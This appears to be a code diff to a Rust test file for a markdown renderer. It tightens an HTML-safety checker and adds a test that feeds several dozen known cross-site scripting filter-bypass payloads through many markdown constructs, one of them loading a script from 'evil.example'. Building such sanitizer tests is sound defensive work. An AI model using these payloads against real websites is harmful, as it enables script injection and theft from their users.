@@ -4,7 +4,7 @@
 
 use proptest::prelude::*;
 
-const TAGS: [&str; 28] = [
+const TAGS: [&str; 27] = [
     "a",
     "blockquote",
     "br",
@@ -32,18 +32,26 @@ const TAGS: [&str; 28] = [
     "thead",
     "tr",
     "ul",
-    "s",
 ];
 
-/// Text never holds a bare `<`, so every `<` begins a tag. Attributes are always `name="value"`.
+/// Have no end.
+const SINGLE: [&str; 2] = ["br", "hr"];
+
+/// Text never holds a bare `<`, so every `<` begins a tag. Attributes are always `name="value"`. What is opened is closed, in its order.
 fn assert_safe(html: &str) {
     let mut rest = html;
+    let mut open = Vec::new();
     while let Some(at) = rest.find('<') {
         let tag_end = end_of_tag(&rest[at..]);
         let tag = &rest[at + 1..at + tag_end];
         rest = &rest[at + tag_end + 1..];
         let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
-        assert!(TAGS.contains(&name.trim_start_matches('/')), "tag {tag:?}");
+        assert!(TAGS.contains(&name.strip_prefix('/').unwrap_or(name)), "tag {tag:?}");
+        match name.strip_prefix('/') {
+            Some(ended) => assert_eq!((open.pop(), attributes), (Some(ended), ""), "{html}"),
+            None if SINGLE.contains(&name) => {}
+            None => open.push(name),
+        }
         while !attributes.is_empty() {
             let (attribute, after) = attributes.split_once("=\"").unwrap();
             let (value, after) = after.split_once('"').unwrap();
@@ -51,6 +59,7 @@ fn assert_safe(html: &str) {
             attributes = after.trim_start();
         }
     }
+    assert!(open.is_empty(), "{open:?} of {html}");
 }
 
 fn end_of_tag(tag: &str) -> usize {
@@ -199,6 +208,70 @@ fn hostile_markdown_is_shown_for_what_it_is() {
         }
     }
     assert!(render::markdown("👩\u{200d}💻 ❤\u{fe0f}").contains("👩\u{200d}💻 ❤\u{fe0f}"), "an emoji is seen as it is");
+}
+
+/// Known ways to get a script into a page past a filter, each as a text, in a link, in a title, in code and in a table.
+#[test]
+fn no_known_way_around_a_filter_leads_to_a_script() {
+    for vector in [
+        "<ScRiPt>alert(1)</sCrIpT>",
+        "<<script>alert(1)//<</script>",
+        "<script/src=//evil.example></script>",
+        "<img/src=x/onerror=alert(1)>",
+        "<img src=`x` onerror=alert(1)>",
+        "<svg><animate onbegin=alert(1) attributeName=x>",
+        "<svg><script>alert&#40;1)</script></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+        "<template><script>alert(1)</script></template>",
+        "<iframe srcdoc='<script>alert(1)</script>'>",
+        "<object data=javascript:alert(1)>",
+        "<base href=javascript:alert(1)//>",
+        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+        "<details open ontoggle=alert(1)>",
+        "<div style=\"background:url(javascript:alert(1))\">",
+        "<!--><img src=x onerror=alert(1)>-->",
+        "<![CDATA[><img src=x onerror=alert(1)>]]>",
+        "<?php echo '<script>' ?>",
+        "</p></div><script>alert(1)</script>",
+        "\" onmouseover=\"alert(1)",
+        "' onmouseover='alert(1)",
+        "javascript:alert(1)",
+        "java\tscript:alert(1)",
+        "\u{1}javascript:alert(1)",
+        "javascript&colon;alert(1)",
+        "&#106;avascript:alert(1)",
+        "vbscript:msgbox(1)",
+        "data:text/html;base64,PHNjcmlwdD4=",
+        "https://a.b/\"><script>alert(1)</script>",
+        "https://a.b/' onclick='alert(1)",
+        "https://a.b/\u{a0}onclick=alert(1)",
+        "HTTPS://javascript:alert(1)@a.b",
+        "mailto:a@b?subject=\"><script>",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;script&#62;",
+        "\0<script\0>",
+    ] {
+        for text in [
+            vector.to_owned(),
+            format!("[x]({vector})"),
+            format!("[x](<{vector}>)"),
+            format!("![{vector}]({vector})"),
+            format!("[{vector}](https://a.b '{vector}')"),
+            format!("[a]: {vector}\n\n[a] ![b][a]"),
+            format!("<{vector}>"),
+            format!("`{vector}` **{vector}**"),
+            format!("```{vector}\n{vector}\n```"),
+            format!("|{vector}|\n|-|\n|{vector}|"),
+            format!("- [x] {vector}\n\n> # {vector}"),
+        ] {
+            let html = render::markdown(&text);
+            assert_safe(&html);
+            assert_visible(&html);
+        }
+    }
 }
 
 /// Each of these would cost a naive renderer its time or its stack.
